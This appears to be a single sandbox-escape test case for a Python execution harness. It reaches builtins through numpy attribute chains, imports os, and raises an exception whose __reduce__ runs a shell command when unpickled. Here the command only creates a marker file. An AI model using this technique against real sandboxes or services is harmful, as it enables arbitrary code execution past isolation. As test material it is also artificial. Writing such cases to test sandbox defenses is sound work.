# attempts: raise an exception carrying a __reduce__ payload (runs wherever the exception is pickled back)
# effect: exec
# needs: worker
B = np.random.bit_generator.re.enum.bltns
imp = B.getattr(B, '__import__')
osm = imp('os')
Evil = B.type('EvilError', (B.Exception,), {'__reduce__': B.eval("lambda self: (system, ('touch @@MARKER_DIR@@/exception_unpickled',))", {'system': osm.system})})
raise Evil('step failed')
